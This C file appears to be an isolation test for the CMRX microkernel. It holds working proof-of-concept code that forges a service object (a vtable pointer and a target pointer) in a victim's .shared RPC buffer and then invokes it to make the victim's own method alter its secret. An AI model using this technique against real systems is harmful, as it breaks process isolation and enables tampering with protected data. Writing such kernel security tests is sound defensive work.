/* Attack: forge a service object in the caller's .shared memory.
 *
 * The victim calls our `lure`, passing a buffer in its .shared memory (the
 * way buffers travel). During the call we may write that buffer: we write
 * an object there whose vtable is the victim's `tally` interface and whose
 * target is the victim's secret. If the kernel counts .shared as the
 * victim's service memory, calling that object makes the victim's own
 * method change its secret. */
#include "attack.h"

static volatile uintptr_t forged_at;

static int log_call(struct lure *self, uint32_t value)
{
    (void)self;
    if (forged_at == 0 && cmrx_rpc_buffer((void *)(uintptr_t)value, 8) == CMRX_OK) {
        uint32_t *obj = (uint32_t *)(uintptr_t)value;
        obj[0] = (uint32_t)(uintptr_t)victim_tally_vtable;
        obj[1] = (uint32_t)(uintptr_t)&victim_secret[3];
        forged_at = value;
    }
    return 0;
}

CMRX_VTABLE(struct lure_vtable, lure_vt) = {log_call};
CMRX_EXPORT struct lure lure = {&lure_vt};

static int attack(void *arg)
{
    (void)arg;
    while (forged_at == 0) {
        cmrx_usleep(1000);
    }
    int r = _cmrx_rpc_call((const void *)forged_at, 0, 0, 0, 0, 0);
    cmrx_printf("attack_sharedobj: calling the forged object: %d\n", r);
    if (r >= 0) {
        ATTACK_SUCCEEDED("a forged object in the victim's .shared ran the victim's method");
    }
    attack_done(1);
    return 0;
}
CMRX_THREAD(attack, NULL);
